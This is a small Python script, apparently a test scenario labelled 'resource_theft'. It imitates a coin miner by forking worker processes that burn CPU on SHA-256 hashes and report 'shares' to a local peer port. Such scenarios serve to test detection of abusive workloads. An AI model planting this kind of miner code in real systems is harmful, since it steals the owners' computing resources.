"""Burns CPU over hashes as a coin miner does, in a few processes, and reports shares to the peer.

attack_type: resource_theft
severity: 0.5
arguments: WORKERS SHARES BITS
variants: 2 14 17 | 1 20 15 | 2 5 18
"""

import hashlib
import multiprocessing
import os
import sys
import urllib.request

workers, shares, bits = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])


def mine(worker: int) -> None:
    nonce = worker << 48
    for _ in range(shares):
        for _ in range(1 << bits):
            nonce += 1
            hashlib.sha256(b"%d" % nonce).digest()
        url = f"http://127.0.0.1:{os.environ['PEER']}/32"
        urllib.request.urlopen(url).read()
        url = f"http://127.0.0.1:{os.environ['PEER']}/share"
        urllib.request.urlopen(url, data=b"%d" % nonce).read()


if __name__ == "__main__":
    fork = multiprocessing.get_context("fork")
    processes = [fork.Process(target=mine, args=(number,)) for number in range(workers)]
    for process in processes:
        process.start()
    for process in processes:
        process.join()
